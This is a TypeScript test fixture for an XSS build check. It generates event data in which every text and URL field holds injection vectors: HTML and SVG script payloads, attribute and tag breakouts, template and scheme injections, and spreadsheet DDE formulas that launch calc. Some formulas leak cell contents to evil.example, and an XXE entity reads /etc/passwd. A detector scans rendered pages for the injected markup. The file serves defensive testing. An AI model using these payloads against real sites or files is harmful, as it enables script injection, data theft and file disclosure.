// Injection vectors for the XSS build check (e2e/builds/xss.spec.ts, issue 11): strings that
// would run script, break out of an attribute, a script or a comment, or break a feed, a
// calendar or a spreadsheet, if any output wrote them as markup instead of text. Every one
// passes the data's validation (the validator refuses raw HTML in Markdown, non-http(s) links
// and control characters; those are checked by its own tests): these are the texts a
// contributor can get into a build. Each payload calls `__xss(n)` or `alert(n)` with its own
// number, so that a run is seen and named.
import { EventSchema, HttpUrlSchema } from '@chronik/events';

/** The class of an attack, for the report. */
type VectorKind =
  | 'html'
  | 'mxss'
  | 'svg'
  | 'attribute'
  | 'closing-tag'
  | 'script-string'
  | 'template'
  | 'scheme'
  | 'entity'
  | 'unicode'
  | 'csv'
  | 'icalendar'
  | 'xml'
  | 'markdown'
  | 'url';

/** One vector: its number (the argument of its marker call), its class and its text. */
export interface XssVector {
  n: number;
  kind: VectorKind;
  text: string;
}

/** A template: the payload's marker call (`__xss(7)`) in, the vector out. */
type Template = (call: string) => string;

/** Single-line texts: titles, source titles, publishers, names and labels. */
const TEXT_TEMPLATES: readonly [VectorKind, Template][] = [
  // Elements and event handlers.
  ['html', (x) => `<script>${x}</script>`],
  ['html', (x) => `<ScRiPt>${x}</sCrIpT>`],
  ['html', (x) => `<script src=data:,${x}></script>`],
  ['html', (x) => `<img src=x onerror=${x}>`],
  ['html', (x) => `<img src="x" onerror="${x}">`],
  ['html', (x) => `<img/src/onerror=${x}>`],
  ['html', (x) => `<body onload=${x}>`],
  ['html', (x) => `<input autofocus onfocus=${x}>`],
  ['html', (x) => `<details open ontoggle=${x}>`],
  ['html', (x) => `<video><source onerror=${x}></video>`],
  ['html', (x) => `<audio src=x onerror=${x}>`],
  ['html', (x) => `<iframe src="javascript:${x}"></iframe>`],
  ['html', (x) => `<iframe srcdoc="<script>${x}</script>"></iframe>`],
  ['html', (x) => `<object data="javascript:${x}"></object>`],
  ['html', (x) => `<embed src="javascript:${x}">`],
  ['html', (x) => `<a href="javascript:${x}">click</a>`],
  ['html', (x) => `<form><button formaction="javascript:${x}">go</button></form>`],
  ['html', (x) => `<meta http-equiv="refresh" content="0;url=javascript:${x}">`],
  ['html', (x) => `<base href="javascript:${x}//">`],
  ['html', (x) => `<marquee onstart=${x}>x</marquee>`],
  ['html', (x) => `<div style="background:url(javascript:${x})">x</div>`],
  ['html', (x) => `<style>@import 'javascript:${x}';</style>`],
  ['html', (x) => `<link rel=stylesheet href="javascript:${x}">`],
  ['html', (x) => `<select autofocus onfocus=${x}></select>`],
  ['html', (x) => `<textarea autofocus onfocus=${x}></textarea>`],
  ['html', (x) => `<keygen autofocus onfocus=${x}>`],
  ['html', (x) => `<isindex action=javascript:${x} type=image>`],
  ['html', (x) => `<p onmouseover=${x} style="position:fixed;inset:0">`],
  ['html', (x) => `<x contenteditable autofocus onfocusin=${x}>`],
  ['html', (x) => `<template><img src=x onerror=${x}></template>`],
  // Mutation XSS: markup that changes meaning when parsed twice or in another namespace.
  ['mxss', (x) => `<noscript><p title="</noscript><img src=x onerror=${x}>">`],
  [
    'mxss',
    (x) =>
      `<math><mtext><table><mglyph><style><img src=x onerror=${x}></style></mglyph></table></mtext></math>`,
  ],
  ['mxss', (x) => `<svg></p><style><a id="</style><img src=1 onerror=${x}>">`],
  ['mxss', (x) => `<listing>&lt;img src=1 onerror=${x}&gt;</listing>`],
  ['mxss', (x) => `<xmp><img src=x onerror=${x}></xmp>`],
  ['mxss', (x) => `<!--><img src=x onerror=${x}>-->`],
  ['mxss', (x) => `<!--<img src="--><img src=x onerror=${x}//">`],
  ['mxss', (x) => `<![CDATA[><img src=x onerror=${x}>]]>`],
  ['mxss', (x) => `<?xml-stylesheet href="javascript:${x}"?>`],
  // SVG.
  ['svg', (x) => `<svg onload=${x}>`],
  ['svg', (x) => `<svg/onload=${x}>`],
  ['svg', (x) => `<svg><script>${x}</script></svg>`],
  ['svg', (x) => `<svg><script href="data:,${x}"/></svg>`],
  ['svg', (x) => `<svg><animate onbegin=${x} attributeName=x dur=1s>`],
  ['svg', (x) => `<svg><set attributeName=onmouseover to=${x}>`],
  ['svg', (x) => `<svg><a xlink:href="javascript:${x}"><text x=20 y=20>x</text></a></svg>`],
  ['svg', (x) => `<svg><foreignObject><img src=x onerror=${x}></foreignObject></svg>`],
  [
    'svg',
    (x) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${x}'/></svg>#x"/></svg>`,
  ],
  ['svg', (x) => `<svg><image href=x onerror=${x} />`],
  ['svg', (x) => `<svg><style><img src=x onerror=${x}></style></svg>`],
  // Breaking out of an attribute.
  ['attribute', (x) => `"><img src=x onerror=${x}>`],
  ['attribute', (x) => `'><img src=x onerror=${x}>`],
  ['attribute', (x) => `" onmouseover="${x}" x="`],
  ['attribute', (x) => `' onmouseover='${x}' x='`],
  ['attribute', (x) => `" autofocus onfocus="${x}`],
  ['attribute', (x) => `' autofocus onfocus='${x}`],
  ['attribute', (x) => `\`><img src=x onerror=${x}>`],
  ['attribute', (x) => `"/><svg onload=${x}>`],
  ['attribute', (x) => `x" style="animation-name:spin" onanimationstart="${x}`],
  ['attribute', (x) => `"><a href="javascript:${x}">`],
  // Closing the element the text sits in.
  ['closing-tag', (x) => `</title><script>${x}</script>`],
  ['closing-tag', (x) => `</textarea><script>${x}</script>`],
  ['closing-tag', (x) => `</script><script>${x}</script>`],
  ['closing-tag', (x) => `</style><script>${x}</script>`],
  ['closing-tag', (x) => `</noscript><img src=x onerror=${x}>`],
  ['closing-tag', (x) => `</option></select><img src=x onerror=${x}>`],
  ['closing-tag', (x) => `</code></pre><img src=x onerror=${x}>`],
  ['closing-tag', (x) => `</a><img src=x onerror=${x}>`],
  ['closing-tag', (x) => `</template><img src=x onerror=${x}>`],
  ['closing-tag', (x) => `</svg><img src=x onerror=${x}>`],
  ['closing-tag', (x) => `--><img src=x onerror=${x}>`],
  ['closing-tag', (x) => `]]><script>${x}</script>`],
  ['closing-tag', (x) => `<!--<script>${x}</script>-->`],
  ['closing-tag', (x) => `</head><body><script>${x}</script>`],
  ['closing-tag', (x) => `</SCRIPT/x><script>${x}</script>`],
  // Inside a script: string and JSON breaking.
  ['script-string', (x) => `';${x};//`],
  ['script-string', (x) => `";${x};//`],
  ['script-string', (x) => `\\';${x};//`],
  ['script-string', (x) => `\\";${x};//`],
  ['script-string', (x) => `'-${x}-'`],
  ['script-string', (x) => `"-${x}-"`],
  ['script-string', (x) => `\\u0027);${x};//`],
  ['script-string', (x) => `\\x3cscript\\x3e${x}\\x3c/script\\x3e`],
  ['script-string', (x) => `\\u003cscript\\u003e${x}\\u003c/script\\u003e`],
  ['script-string', (x) => `"};${x};({"a":"`],
  ['script-string', (x) => `"]);${x};//`],
  ['script-string', (x) => `<!--<script>${x}//`],
  ['script-string', (x) => `\\"}]}</script><script>${x}</script>`],
  ['script-string', (x) => `{"__proto__":{"innerHTML":"<img src=x onerror=${x}>"}}`],
  ['script-string', (x) => `[].constructor.constructor('${x}')()`],
  // Template languages.
  ['template', (x) => `{{constructor.constructor('${x}')()}}`],
  ['template', (x) => `{{$on.constructor('${x}')()}}`],
  ['template', (x) => `\${${x}}`],
  ['template', (x) => `\`\${${x}}\``],
  ['template', (x) => `#{${x}}`],
  ['template', (x) => `<%= ${x} %>`],
  ['template', (x) => `{${x}}`],
  ['template', (x) => `{@html '<img src=x onerror=${x}>'}`],
  ['template', (x) => `[[${x}]]`],
  ['template', (x) => `{{7*7}}{{${x}}}`],
  // Schemes that run script where a text becomes an address.
  ['scheme', (x) => `javascript:${x}`],
  ['scheme', (x) => `JaVaScRiPt:${x}`],
  ['scheme', (x) => `javascript://%0a${x}`],
  ['scheme', (x) => `java&#x09;script:${x}`],
  ['scheme', (x) => `${toDecimalReferences('javascript:')}${x}`],
  ['scheme', (x) => `data:text/html,<script>${x}</script>`],
  ['scheme', (x) => `data:text/html;base64,${btoa(`<script>${x}</script>`)}`],
  ['scheme', (x) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${x}"/>`],
  ['scheme', (x) => `vbscript:${x}`],
  // Character references and encodings that a second decoding would turn into markup.
  ['entity', (x) => `&lt;script&gt;${x}&lt;/script&gt;`],
  ['entity', (x) => `&amp;lt;img src=x onerror=${x}&amp;gt;`],
  ['entity', (x) => `&#60;img src=x onerror=${x}&#62;`],
  ['entity', (x) => `&#x3C;svg onload=${x}&#x3E;`],
  ['entity', (x) => `&#0000060;script&#0000062;${x}&#0000060;/script&#0000062;`],
  ['entity', (x) => `&quot;&gt;&lt;img src=x onerror=${x}&gt;`],
  ['entity', (x) => `&apos;&gt;&lt;svg onload=${x}&gt;`],
  ['entity', (x) => `&lt;/title&gt;&lt;script&gt;${x}&lt;/script&gt;`],
  ['entity', (x) => `&NewLine;&Tab;<img src=x onerror=${x}>`],
  ['entity', (x) => `%3Cscript%3E${x}%3C/script%3E`],
  ['entity', (x) => `%253Cimg%2520src%253Dx%2520onerror%253D${x}%253E`],
  ['entity', (x) => `+ADw-script+AD4-${x}+ADw-/script+AD4-`],
  // Unicode: look-alikes, invisible and direction characters, line separators, case folding.
  ['unicode', (x) => `＜script＞${x}＜/script＞`],
  ['unicode', (x) => `＂＞＜img src=x onerror=${x}＞`],
  ['unicode', (x) => `<scr\u200bipt>${x}</scr\u200bipt>`],
  ['unicode', (x) => `a\u2028';${x};//\u2029b`],
  ['unicode', (x) => `a\u200d\u00ad<img src=x onerror=${x}>`],
  ['unicode', (x) => `a\ufeff<script>${x}</script>`],
  ['unicode', (x) => `<ſvg onload=${x}>`],
  ['unicode', (x) => `<İmg src=x onerror=${x}>`],
  ['unicode', (x) => `𝒳𝒮𝒮 <script>${x}</script> 😀`],
  ['unicode', (x) => `\\u003cimg src=x onerror=${x}\\u003e`],
  ['unicode', (x) => `a\u00a0\u2000\u3000<svg onload=${x}>`],
  // Spreadsheet formulas (CSV).
  ['csv', () => `=cmd|' /C calc'!A0`],
  ['csv', (x) => `=HYPERLINK("https://evil.example/?leak="&A1,"${x}")`],
  ['csv', () => `+cmd|' /C calc'!A0`],
  ['csv', () => `-2+3+cmd|' /C calc'!A0`],
  ['csv', () => `@SUM(1+1)*cmd|' /C calc'!A0`],
  ['csv', () => `=1+1`],
  ['csv', () => `'=1+2`],
  ['csv', () => `=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")`],
  ['csv', () => `-@SUM(A1:A9)`],
  ['csv', (x) => `"=1","=2",=3,${x}`],
  ['csv', () => `a,b"c"d,=e`],
  ['csv', () => `;=1;=2`],
  ['csv', (x) => `=DDE("cmd";"/C calc";"${x}")`],
  ['csv', () => `@cmd|'/C calc'!A0`],
  ['csv', (x) => `+${x}`],
  ['csv', (x) => `-${x}`],
  // iCalendar: line and property injection, in the forms a single line allows.
  ['icalendar', (x) => `%0d%0aBEGIN:VEVENT%0d%0aSUMMARY:${x}%0d%0aEND:VEVENT`],
  ['icalendar', (x) => `\\r\\nBEGIN:VEVENT\\r\\nSUMMARY:${x}\\r\\nEND:VEVENT`],
  ['icalendar', (x) => `x;VALUE=URI:javascript:${x}`],
  ['icalendar', () => `a,b;c\\d:e\\,f\\;g\\n`],
  ['icalendar', () => `END:VCALENDAR`],
  ['icalendar', (x) => `BEGIN:VALARM ACTION:DISPLAY DESCRIPTION:${x} END:VALARM`],
  // XML (Atom, sitemap): markup, declarations, entities and CDATA ends.
  ['xml', () => `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>`],
  ['xml', () => `&xxe;&lt;&#0;&#xD800;&#x1;`],
  ['xml', (x) => `</content><entry><title>${x}</title></entry>`],
  ['xml', (x) => `</title><script xmlns="http://www.w3.org/1999/xhtml">${x}</script>`],
  ['xml', (x) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${x}</x:script>`],
  ['xml', (x) => `<?xml version="1.0"?><!--${x}-->`],
  ['xml', (x) => `]]]]><![CDATA[><script>${x}</script>`],
  ['xml', (x) => `<![CDATA[]]><script>${x}</script>`],
  // U+FFFE and U+FFFF themselves are refused by the validator (see hostile-files.ts);
  // written as references, they are text like any other.
  ['xml', () => `a&#xFFFE;&#xFFFF;b\u2028c`],
];

/** Markdown texts (summaries, notes): constructs that are not raw HTML, so they validate. */
const MARKDOWN_TEMPLATES: readonly Template[] = [
  (x) => `\`<script>${x}</script>\``,
  (x) => `\`\`\`html\n<script>${x}</script>\n\`\`\``,
  (x) => `\`\`\`"><img/src/onerror=${x}>\ncode\n\`\`\``,
  (x) => `[click](https://example.org/ "\\" onmouseover=\\"${x}")`,
  (x) => `[click](https://example.org/ '"><svg onload=${x}>')`,
  (x) => `[click](<https://example.org/"onmouseover="${x}>)`,
  (x) => `<https://example.org/"onmouseover="${x}">`,
  (x) => `[a][x]\n\n[x]: https://example.org/'onmouseover='${x}' "t\\"itle"`,
  (x) => `\\<script\\>${x}\\</script\\>`,
  (x) => `[&lt;svg onload=${x}&gt;](https://example.org/?q=&quot;&gt;&lt;svg/onload=${x}&gt;)`,
  (x) => `text\nBEGIN:VEVENT\nSUMMARY:${x}\nEND:VEVENT\nmore`,
  () => `a\n\nEND:VCALENDAR\nBEGIN:VCALENDAR\nVERSION:2.0`,
  (x) => `line\n=cmd|' /C calc'!A0\n@SUM(1)\n+${x}`,
  () => `x\n]]>\n-->`,
  (x) => `> "&gt;&lt;svg onload=${x}&gt;\n> &lt;/title&gt;`,
  (x) => `[x](https://example.org/javascript:${x})`,
  (x) => `[x](https://example.org/%22%3E%3Cscript%3E${x}%3C/script%3E)`,
  (x) => `[x](HTTPS://EXAMPLE.ORG/\\"onmouseover=\\"${x})`,
  (x) => `para\n\n    <script>${x}</script>\n\nend`,
  (x) => `~~~\n</code></pre><img src=x onerror=${x}>\n~~~`,
  (x) => `**bold\u2028${x}\u2029**`,
  (x) => `[x](https://example.org/?a=1&b=<2>&c=${x})`,
  (x) => `https://example.org/"onmouseover="${x}`,
  (x) => `# &lt;/title&gt;&lt;script&gt;${x}&lt;/script&gt;`,
  (x) => `- "&gt;&lt;script&gt;\n- ${x}\n\t- &lt;/li&gt;&lt;/ul&gt;`,
  (x) => `*a*&lt;!--${x}--&gt;`,
];

/** Addresses: http(s), as the schema wants, with markup and line breaks in path and query. */
const URL_TEMPLATES: readonly Template[] = [
  (x) => `https://example.org/"><script>${x}</script>`,
  (x) => `https://example.org/'><img/src/onerror=${x}>`,
  (x) => `https://example.org/"onmouseover="${x}"x="`,
  (x) => `https://example.org/#"autofocus/onfocus="${x}`,
  (x) => `https://example.org/javascript:${x}`,
  (x) => `https://example.org/?u=javascript:${x}`,
  (x) => `https://example.org/?next=data:text/html;base64,${btoa(`<script>${x}</script>`)}`,
  (x) => `https://example.org/</script><script>${x}</script>`,
  (x) => `https://example.org/%22%3E%3Cscript%3E${x}%3C/script%3E`,
  (x) => `https://example.org/%0d%0aBEGIN:VEVENT%0d%0aSUMMARY:${x}%0d%0aEND:VEVENT`,
  (x) => `https://example.org/]]><script>${x}</script>`,
  (x) => `https://example.org/--><script>${x}</script>`,
  (x) => `https://example.org/&quot;&gt;&lt;svg/onload=${x}&gt;`,
  (x) => `https://example.org/?a=1&b="2"&c=<3>&d='4'&e=${x}`,
  (x) => `https://example.org/{{constructor.constructor('${x}')()}}`,
  (x) => `https://example.org/\${${x}}`,
  (x) => `https://example.org/=cmd|'/C%20calc'!A0?${x}`,
  (x) => `https://"onmouseover="${x}"@example.org/`,
  (x) => `HTTPS://EXAMPLE.ORG/"><SCRIPT>${x}</SCRIPT>`,
  (x) => `https://example.org/\\";${x};//`,
  (x) => `https://example.org/?x=</title><script>${x}</script>`,
  (x) => `https://example.org/?x=<!--&y=--><img/src/onerror=${x}>`,
  (x) => `https://example.org/%E2%80%A8${x}%E2%80%A9`,
  (x) => `https://example.org/?x=&lt;script&gt;${x}`,
  (x) => `http://example.org:80/<svg/onload=${x}>`,
  (x) => `https://xn--80ak6aa92e.com/"><svg/onload=${x}>`,
  (x) => `https://example.org/?q=\\u003cscript\\u003e${x}`,
  (x) => `https://example.org/#<img/src/onerror=${x}>`,
  (x) => `https://example.org/]]]]><![CDATA[>${x}`,
  (x) => `https://example.org/?=cmd|'/C'!A0&@SUM(1)&+1&-1#${x}`,
];

/** `javascript:` as decimal character references (`&#106;&#97;…`). */
function toDecimalReferences(text: string): string {
  return [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
}

/** The marker call of vector `n`: most call `__xss(n)`, every fourth `alert(n)`. */
function toCall(n: number): string {
  return n % 4 === 0 ? `alert(${n})` : `__xss(${n})`;
}

/** Templates made into vectors, numbered from `first` on. */
function toVectors(templates: readonly [VectorKind, Template][], first: number): XssVector[] {
  return templates.map(([kind, template], i) => ({
    n: first + i,
    kind,
    text: template(toCall(first + i)),
  }));
}

/** Single-line vectors, for every text field. */
export const TEXT_VECTORS: readonly XssVector[] = toVectors(TEXT_TEMPLATES, 1);

/** Vectors in Markdown syntax (several lines, links, code), for summaries and notes. */
export const MARKDOWN_VECTORS: readonly XssVector[] = toVectors(
  MARKDOWN_TEMPLATES.map((template) => ['markdown', template] as [VectorKind, Template]),
  TEXT_VECTORS.length + 1,
);

/** http(s) addresses, for every URL field. */
export const URL_VECTORS: readonly XssVector[] = toVectors(
  URL_TEMPLATES.map((template) => ['url', template] as [VectorKind, Template]),
  TEXT_VECTORS.length + MARKDOWN_VECTORS.length + 1,
);

/** Every vector. */
export const ALL_VECTORS: readonly XssVector[] = [
  ...TEXT_VECTORS,
  ...MARKDOWN_VECTORS,
  ...URL_VECTORS,
];

/** Whether a text is a valid summary (Markdown without raw HTML or images, links http(s)). */
function isMarkdownText(text: string): boolean {
  return EventSchema.shape.summary.safeParse({ de: text, en: text }).success;
}

/** The single-line vectors that are also valid Markdown, and the Markdown ones. */
export const MARKDOWN_FIELD_VECTORS: readonly XssVector[] = [
  ...MARKDOWN_VECTORS,
  ...TEXT_VECTORS.filter((vector) => isMarkdownText(vector.text)),
];

/**
 * Texts packed into fields of at most `max` characters, joined by `separator`, each field
 * opened by the next of `leaders` (formulas, which a spreadsheet reads only at a cell's start)
 * while there are any.
 */
function pack(options: {
  texts: readonly string[];
  max: number;
  separator: string;
  leaders?: readonly string[];
}): string[] {
  const { max, separator } = options;
  const leaders = [...(options.leaders ?? [])];
  const rest = options.texts.filter((text) => !leaders.includes(text));
  const chunks: string[] = [];
  let current = leaders.shift() ?? '';
  for (const text of rest) {
    if (text.length > max) throw new Error(`pack: "${text}" is longer than ${max} characters`);
    while (current && current.length + separator.length + text.length > max) {
      chunks.push(current);
      current = leaders.shift() ?? '';
    }
    current = current ? `${current}${separator}${text}` : text;
  }
  if (current) chunks.push(current);
  return [...chunks, ...leaders];
}

/**
 * Takes texts in turn from a list, going round it, packed into fields: each call returns as
 * many of the next texts as fit into `max` characters, joined by spaces (at least one).
 */
function createDrawer(list: readonly string[]): (max: number) => string {
  let next = 0;
  return (max) => {
    let field = list[next++ % list.length]!;
    while (field.length + 1 + list[next % list.length]!.length <= max) {
      field += ` ${list[next++ % list.length]!}`;
    }
    return field;
  };
}

/** The list turned so that it starts at `start`. */
function rotate<T>(list: readonly T[], start: number): T[] {
  return [...list.slice(start), ...list.slice(0, start)];
}

/** A plain object as YAML: JSON (YAML 1.2 reads it), with every non-ASCII character escaped. */
function toYaml(value: unknown): string {
  return `${JSON.stringify(value, null, 2).replace(
    /[\u007f-\uffff]/g,
    (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`,
  )}\n`;
}

/** An event as the generator writes it (the input form of the schema). */
export interface XssEvent {
  id: string;
  date: { start: string; precision: 'day' };
  title: { de: string; en: string };
  summary: { de: string; en: string };
  categories: string[];
  actors: string[];
  jurisdictions: string[];
  threads: string[];
  sources: { url: string; title: string; publisher: string; lang: string }[];
  related: { id: string; type: 'follows-from' }[];
  verified: boolean;
  notes: { de: string; en: string };
  changes: { date: string; note: { de: string; en: string } }[];
}

/** A text in both languages. */
interface Pair {
  de: string;
  en: string;
}

/** The generated data directory and what the checks expect of the build. */
export interface XssDataset {
  /** File path (relative to the data directory) → contents. */
  files: Record<string, string>;
  events: XssEvent[];
  categories: { id: string; label: Pair }[];
  actors: { id: string; name: Pair }[];
  dataset: { title: Pair };
  /** Text and URL fields filled with vectors, per event. */
  fieldsPerEvent: number;
  /** Text and URL fields of the registries and `dataset.yaml` filled with vectors. */
  registryFields: number;
}

/** Title, summary, notes, change note (each in both languages), two sources of three fields. */
const FIELDS_PER_EVENT = 2 * 4 + 2 * 3;

/**
 * A data directory with every vector in every text field of the events (titles, summaries,
 * notes, source titles, publishers, change notes: in both languages where the field has
 * them), in every URL field (sources, actors, licence), and in the labels, names and
 * descriptions of the registries and the dataset.
 */
export function createXssDataset(): XssDataset {
  const texts = TEXT_VECTORS.map((v) => v.text);
  const reversed = [...texts].reverse();
  const leaders = TEXT_VECTORS.filter((v) => v.kind === 'csv').map((v) => v.text);
  const markdown = MARKDOWN_FIELD_VECTORS.map((v) => v.text);
  const urls = URL_VECTORS.map((v) => v.text);
  for (const url of urls) {
    if (!HttpUrlSchema.safeParse(url).success) throw new Error(`not a valid URL vector: ${url}`);
  }
  const line = (max: number, list: readonly string[]) =>
    pack({ texts: list, max, separator: ' ', leaders });
  const paragraphs = (max: number, list: readonly string[]) =>
    pack({ texts: list, max, separator: '\n\n' });
  // Each field of an event gets the vectors in another order, so that each vector meets other
  // neighbours and, in some field, opens it.
  const fields = {
    titleDe: line(300, texts),
    titleEn: line(300, reversed),
    sourceTitle: line(500, rotate(texts, 20)),
    sourceTitleReversed: line(500, rotate(reversed, 20)),
    publisher: line(300, rotate(texts, 40)),
    publisherReversed: line(300, rotate(reversed, 40)),
    changeDe: line(400, rotate(texts, 80)),
    changeEn: line(400, rotate(reversed, 80)),
    summaryDe: paragraphs(1500, markdown),
    summaryEn: paragraphs(1500, [...markdown].reverse()),
    notesDe: paragraphs(3000, rotate(markdown, 20)),
    notesEn: paragraphs(3000, rotate([...markdown].reverse(), 10)),
  };
  const count = Math.max(...Object.values(fields).map((chunks) => chunks.length));
  const at = (chunks: string[], i: number) => chunks[i % chunks.length]!;

  // Registries and the dataset: every single-line vector once more, as many to a field as
  // its limit allows (labels and licence ids take 100 characters; others are kept to a few
  // hundred, so that pages stay readable).
  const rotated = rotate(texts, 60);
  const labelText = createDrawer(rotated.filter((t) => t.length <= 100));
  const otherText = createDrawer([
    ...rotated.filter((t) => t.length > 100),
    ...rotated.filter((t) => t.length <= 100),
  ]);
  let filled = 0;
  const pair = (draw: (max: number) => string, max: number) => {
    filled += 2;
    return { de: draw(max), en: draw(max) };
  };
  const label = () => pair(labelText, 100);
  const name = () => pair(otherText, 200);
  const description = () => pair(otherText, 600);
  const categories = ['alpha', 'beta', 'gamma'].map((id, i) => ({
    id,
    label: label(),
    description: description(),
    color: ['#6A3D9A', '#1B7837', '#B35806'][i]!,
    colorDark: ['#B594D6', '#5AAE61', '#F1A340'][i]!,
    shape: (['star', 'square', 'triangle'] as const)[i]!,
  }));
  const actors = ['first-actor', 'second-actor', 'third-actor'].map((id, i) => ({
    id,
    name: name(),
    kind: (['parliament', 'person', 'association'] as const)[i]!,
    url: urls[(urls.length - 1 - i) % urls.length]!,
  }));
  const threads = ['one-story', 'another-story'].map((id) => ({
    id,
    label: label(),
    description: description(),
  }));
  const jurisdictions = ['XA', 'XB'].map((id) => ({ id, name: name() }));
  const dataset = {
    id: 'xss-vectors',
    version: '1.0.0',
    title: name(),
    description: description(),
    license: {
      id: labelText(100),
      name: otherText(200),
      url: urls[urls.length - 4]!,
    },
    publisher: otherText(200),
    changes: [{ version: '1.0.0', date: '2025-05-20', note: name() }],
  };
  // The licence's id, name and address, the publisher, the actors' addresses.
  const registryFields = filled + 4 + actors.length;

  const events: XssEvent[] = Array.from({ length: count }, (_, i) => {
    const day = new Date(Date.UTC(2020, 0, 1 + i * 9)).toISOString().slice(0, 10);
    const id = `${day}-xss-${String(i + 1).padStart(2, '0')}`;
    return {
      id,
      date: { start: day, precision: 'day' },
      title: { de: at(fields.titleDe, i), en: at(fields.titleEn, i) },
      summary: { de: at(fields.summaryDe, i), en: at(fields.summaryEn, i) },
      categories: i % 4 === 3 ? ['alpha', 'gamma'] : [categories[i % 3]!.id],
      actors: [actors[i % 3]!.id],
      jurisdictions: [jurisdictions[i % 2]!.id],
      threads: [threads[i % 2]!.id],
      sources: [
        {
          url: urls[(2 * i) % urls.length]!,
          title: at(fields.sourceTitle, i),
          publisher: at(fields.publisher, i),
          lang: 'de',
        },
        {
          url: urls[(2 * i + 1) % urls.length]!,
          title: at(fields.sourceTitleReversed, i),
          publisher: at(fields.publisherReversed, i),
          lang: 'en',
        },
      ],
      related: [],
      verified: i % 5 !== 4,
      notes: { de: at(fields.notesDe, i), en: at(fields.notesEn, i) },
      changes: [
        { date: '2025-05-20', note: { de: at(fields.changeDe, i), en: at(fields.changeEn, i) } },
      ],
    };
  });
  // Related events show each other's titles on the event pages.
  events.forEach((event, i) => {
    if (i > 0) event.related.push({ id: events[i - 1]!.id, type: 'follows-from' });
  });

  const files: Record<string, string> = {
    'dataset.yaml': toYaml(dataset),
    'categories.yaml': toYaml(categories),
    'actors.yaml': toYaml(actors),
    'threads.yaml': toYaml(threads),
    'jurisdictions.yaml': toYaml(jurisdictions),
  };
  for (const event of events) files[`events/${event.id}.yaml`] = toYaml(event);
  return {
    files,
    events,
    categories,
    actors,
    dataset,
    fieldsPerEvent: FIELDS_PER_EVENT,
    registryFields,
  };
}

/**
 * Looks through a document, its shadow roots and its same-origin frames for markup that no
 * page of the site has and any injection would leave: handler attributes, script addresses
 * and schemes, frames, plugins, images, scripts from elsewhere than `origins` (the site's
 * first: frames may show only its embed page). Runs in the page (`page.evaluate`), so it
 * uses nothing from outside. Returns one line per finding.
 */
export function findInjectedMarkup(origins: readonly string[]): string[] {
  const found: string[] = [];
  const siteOrigin = origins[0];
  const ADDRESS = new Set([
    'href',
    'src',
    'action',
    'formaction',
    'data',
    'xlink:href',
    'background',
    'poster',
    'ping',
    'codebase',
    'srcset',
    'lowsrc',
    'dynsrc',
    'manifest',
    'icon',
  ]);
  const FORBIDDEN = new Set([
    'frame',
    'frameset',
    'object',
    'embed',
    'applet',
    'img',
    'image',
    'video',
    'audio',
    'source',
    'track',
    'math',
    'foreignobject',
    'animate',
    'set',
    'animatetransform',
    'animatemotion',
    'marquee',
    'isindex',
    'keygen',
    'xmp',
    'listing',
    'plaintext',
    'portal',
    'textarea',
    'x',
  ]);
  const scheme = (value: string) =>
    // eslint-disable-next-line no-control-regex -- browsers ignore these inside a scheme
    value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
  const describe = (element: Element) =>
    `<${element.localName}${[...element.attributes].map((a) => ` ${a.name}="${a.value.slice(0, 60)}"`).join('')}>`;
  const walk = (root: Document | ShadowRoot, where: string) => {
    for (const element of root.querySelectorAll('*')) {
      const name = element.localName.toLowerCase();
      if (FORBIDDEN.has(name)) found.push(`${where}: element ${describe(element)}`);
      for (const attribute of element.attributes) {
        const attr = attribute.name.toLowerCase();
        if (attr.startsWith('on')) found.push(`${where}: handler ${describe(element)}`);
        if (attr === 'srcdoc') found.push(`${where}: srcdoc ${describe(element)}`);
        // A custom element's attributes are its own options (the widget's `src`, `from`),
        // not addresses the browser follows.
        if (ADDRESS.has(attr) && !name.includes('-')) {
          const value = scheme(attribute.value);
          if (/^(javascript|vbscript|livescript|data):/.test(value) && name !== 'link') {
            found.push(`${where}: address ${describe(element)}`);
          }
          if (name === 'link' && /^(javascript|vbscript|data:text)/.test(value)) {
            found.push(`${where}: address ${describe(element)}`);
          }
        }
        if (attr === 'style' && /javascript:|expression\(|url\(/i.test(attribute.value)) {
          found.push(`${where}: style ${describe(element)}`);
        }
      }
      if (name === 'script') {
        const script = element as HTMLScriptElement;
        const type = script.getAttribute('type');
        if (script.hasAttribute('src')) {
          if (!origins.some((origin) => script.src.startsWith(`${origin}/`))) {
            found.push(`${where}: script ${describe(element)}`);
          }
        } else if (type === 'application/ld+json') {
          try {
            JSON.parse(script.text);
          } catch {
            found.push(`${where}: JSON-LD that is no JSON`);
          }
        } else if (!/__sveltekit_|chronik-theme/.test(script.text)) {
          found.push(`${where}: inline script ${script.text.slice(0, 80)}`);
        }
      }
      if (name === 'iframe') {
        const src = (element as HTMLIFrameElement).src;
        if (!src.startsWith(`${siteOrigin}/embed/?`)) {
          found.push(`${where}: frame ${describe(element)}`);
        }
      }
      if (name === 'base' && element.hasAttribute('href')) {
        found.push(`${where}: base ${describe(element)}`);
      }
      if (name === 'meta') {
        const equiv = element.getAttribute('http-equiv')?.toLowerCase();
        if (equiv && equiv !== 'content-security-policy') {
          found.push(`${where}: meta ${describe(element)}`);
        }
      }
      if (name === 'link' && /import/i.test(element.getAttribute('rel') ?? '')) {
        found.push(`${where}: link ${describe(element)}`);
      }
      if (
        name === 'style' &&
        /javascript:|@import|expression\(|__xss/i.test(element.textContent ?? '')
      ) {
        found.push(`${where}: style ${element.textContent?.slice(0, 80)}`);
      }
      if (name === 'use') {
        const href = element.getAttribute('href') ?? element.getAttribute('xlink:href') ?? '';
        if (!href.startsWith('#')) found.push(`${where}: use ${describe(element)}`);
      }
      if (element.shadowRoot) walk(element.shadowRoot, `${where} (shadow of ${name})`);
    }
  };
  walk(document, location.href);
  return found;
}
